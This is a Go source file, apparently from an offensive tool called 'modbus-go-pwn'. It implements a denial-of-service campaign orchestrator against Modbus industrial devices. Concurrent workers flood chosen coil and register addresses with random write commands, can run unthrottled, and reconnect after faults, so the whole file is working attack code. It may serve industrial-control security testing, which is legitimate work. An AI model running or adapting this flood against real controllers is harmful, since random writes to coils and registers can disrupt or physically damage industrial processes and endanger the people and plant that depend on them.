package assess

import (
	"context"
	"errors"
	"fmt"
	"math"
	"math/rand"
	"sync"
	"sync/atomic"
	"time"

	"github.com/sirupsen/logrus"
	"golang.org/x/time/rate"

	"modbus-tools/modbus-go-pwn/client"
	"modbus-tools/modbus-go-pwn/config"
	"modbus-tools/modbus-go-pwn/database"
)

type AttackType string

const (
	AttackWriteCoil     AttackType = "write_coil"
	AttackWriteRegister AttackType = "write_register"
)

const (
	StatusRunning = "running"
	StatusStopped = "stopped"
)

// Attack floods one address with one kind of write.
type Attack struct {
	Type    AttackType
	Address uint16
}

// DosCampaign describes a write flood. Every attack gets WorkerCount workers.
type DosCampaign struct {
	Attacks       []Attack
	RatePerWorker float64       // requests per second, 0 is unthrottled
	WorkerCount   int           // clamped to 1..10
	Duration      time.Duration // 0 runs until Stop
}

// DosOrchestrator runs at most one campaign at a time. mu guards live only;
// it is never held while workers are joined.
type DosOrchestrator struct {
	dial   client.Dialer
	timing config.TimingConfig
	log    logrus.FieldLogger

	Events chan<- database.Event

	mu   sync.Mutex
	live *campaignRun
}

type campaignRun struct {
	endpoint Endpoint
	unitID   byte
	cancel   context.CancelFunc
	done     chan struct{}
	ids      []string
	slots    []atomic.Pointer[WorkerResult]
	stopped  sync.Once
}

func NewDosOrchestrator(dial client.Dialer, timing config.TimingConfig, logger logrus.FieldLogger) *DosOrchestrator {
	return &DosOrchestrator{dial: dial, timing: timing, log: logger}
}

// Start stops any live campaign, then launches this one. With a Duration it blocks until
// the campaign is over (or ctx ends) and returns the completed report. Without one it
// returns a running report straight away.
func (o *DosOrchestrator) Start(ctx context.Context, ep Endpoint, unitID byte, campaign DosCampaign) (CampaignReport, error) {
	if len(campaign.Attacks) == 0 {
		return CampaignReport{Status: StatusError, Error: "no attack selected"}, errors.New("no attack selected")
	}
	workers := min(max(campaign.WorkerCount, 1), config.MaxDosWorkers)

	o.mu.Lock()
	prev := o.live
	o.live = nil
	o.mu.Unlock()
	if prev != nil {
		o.log.Info("stopping previous DoS campaign")
		o.halt(prev)
	}

	runCtx, cancel := context.WithCancel(context.Background())
	run := &campaignRun{endpoint: ep, unitID: unitID, cancel: cancel, done: make(chan struct{})}
	for _, atk := range campaign.Attacks {
		prefix := "coil_worker"
		if atk.Type == AttackWriteRegister {
			prefix = "register_worker"
		}
		for i := 0; i < workers; i++ {
			run.ids = append(run.ids, fmt.Sprintf("%s_%d", prefix, i))
		}
	}
	run.slots = make([]atomic.Pointer[WorkerResult], len(run.ids))

	var wg sync.WaitGroup
	for n, atk := range campaign.Attacks {
		atk := atk
		for i := 0; i < workers; i++ {
			slot := n*workers + i
			wg.Add(1)
			go func() {
				defer wg.Done()
				o.worker(runCtx, run, atk, campaign.RatePerWorker, slot)
			}()
		}
	}
	go func() {
		wg.Wait()
		close(run.done)
	}()
	o.mu.Lock()
	displaced := o.live
	o.live = run
	o.mu.Unlock()
	// a concurrent Start may have installed its campaign while prev was halting
	if displaced != nil {
		o.halt(displaced)
	}

	o.log.WithFields(logrus.Fields{"target": ep.String(), "unit": unitID, "workers": len(run.ids)}).Info("DoS campaign started")
	emit(o.Events, ep, int(unitID), database.EventDosStarted, fmt.Sprintf("%d workers, %.1f req/s each", len(run.ids), campaign.RatePerWorker))

	if campaign.Duration <= 0 {
		return CampaignReport{Status: StatusRunning}, nil
	}
	sleepCtx(ctx, campaign.Duration)

	o.mu.Lock()
	if o.live == run {
		o.live = nil
	}
	o.mu.Unlock()
	return o.halt(run), nil
}

// Stop ends the live campaign and returns its report. ok is false when none was running.
func (o *DosOrchestrator) Stop() (report CampaignReport, ok bool) {
	o.mu.Lock()
	run := o.live
	o.live = nil
	o.mu.Unlock()
	if run == nil {
		return CampaignReport{}, false
	}
	return o.halt(run), true
}

func (o *DosOrchestrator) Status() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	if o.live != nil {
		return StatusRunning
	}
	return StatusStopped
}

// halt signals every worker and waits up to JoinTimeout for them to report.
// Workers that have not reported by then are left out of the report.
func (o *DosOrchestrator) halt(run *campaignRun) CampaignReport {
	run.cancel()
	select {
	case <-run.done:
	case <-time.After(o.timing.JoinTimeout):
		o.log.Warn("DoS workers did not all stop in time")
	}

	report := CampaignReport{Status: StatusCompleted, AttackResults: make(map[string]WorkerResult, len(run.ids))}
	for i, id := range run.ids {
		if r := run.slots[i].Load(); r != nil {
			report.AttackResults[id] = *r
		}
	}
	run.stopped.Do(func() {
		o.log.WithFields(report.fields()).Info("DoS campaign stopped")
		requests, errs := report.TotalRequests()
		emit(o.Events, run.endpoint, int(run.unitID), database.EventDosStopped, fmt.Sprintf("%d requests, %d errors", requests, errs))
	})
	return report
}

// worker loops until ctx ends. It never gives up on faults: it reconnects and keeps going.
func (o *DosOrchestrator) worker(ctx context.Context, run *campaignRun, atk Attack, perSecond float64, slot int) {
	id := run.ids[slot]
	log := o.log.WithField("worker", id)
	c := o.dial(run.endpoint.String(), o.timing.WorkerTimeout)
	defer c.Close()

	var limiter *rate.Limiter
	if perSecond > 0 {
		limiter = rate.NewLimiter(rate.Limit(perSecond), 1)
	}

	start := time.Now()
	var requests, errs uint64
	connected := false
	for ctx.Err() == nil {
		if !connected {
			if err := c.Connect(); err != nil {
				errs++
				log.Debugf("connect failed: %v", err)
				sleepCtx(ctx, o.timing.ReconnectDelay)
				continue
			}
			connected = true
		}
		if limiter != nil && limiter.Wait(ctx) != nil {
			break
		}

		var err error
		if atk.Type == AttackWriteCoil {
			err = c.WriteCoil(atk.Address, rand.Intn(2) == 1, run.unitID)
		} else {
			err = c.WriteRegister(atk.Address, uint16(rand.Intn(65536)), run.unitID)
		}
		if err == nil {
			requests++
			continue
		}
		if _, ok := client.AsException(err); ok {
			requests++
			errs++
			continue
		}
		errs++
		log.Debugf("write fault, reconnecting: %v", err)
		c.Close()
		connected = c.Connect() == nil
		sleepCtx(ctx, o.timing.ReconnectDelay)
	}

	elapsed := time.Since(start).Seconds()
	result := &WorkerResult{Status: StatusCompleted, RequestCount: requests, ErrorCount: errs, DurationSeconds: round2(elapsed)}
	if elapsed > 0 {
		result.AchievedRate = round2(float64(requests) / elapsed)
	}
	run.slots[slot].Store(result)
}

func round2(v float64) float64 {
	return math.Round(v*100) / 100
}
